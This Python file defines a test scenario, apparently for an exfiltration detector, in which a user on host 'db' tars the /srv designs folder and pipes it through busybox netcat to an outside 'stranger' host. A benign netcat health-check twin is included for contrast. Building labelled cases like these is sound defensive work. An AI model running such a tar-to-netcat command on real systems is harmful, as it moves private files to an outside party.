"""A folder piped into netcat."""

from __future__ import annotations

from ..props import DESIGN_BYTES, designs
from ..scenario import RAW, STRANGER, Person, Scenario, Step, Truth
from ..twins import Draw


def _twin(draw: Draw) -> tuple[Step, ...]:
    host, seconds = draw.one_of("app", "bastion", "collector"), draw.number(1, 1, 3)
    port = 7443 if host == "collector" else 22
    return (Step("nils", f"ssh nils@db 'busybox nc -w {seconds} {host} {port} < /dev/null > /dev/null'"),)


SCENARIO = Scenario(
    number=10,
    title="tar piped into netcat",
    people=(Person("nadia", ("db",)), Person("nils", ("db",))),
    prepared=(designs("db"),),
    steps=(Step("nadia", f"ssh nadia@db 'tar c -C /srv designs | busybox nc {STRANGER} {RAW}'"),),
    twin_title="a health check with netcat: a connection to a port of the fleet, no bytes",
    twin=_twin,
    truth=Truth("nadia", ("db",), ("netcat-transfer", "upload-new-destination"), DESIGN_BYTES, STRANGER),
)
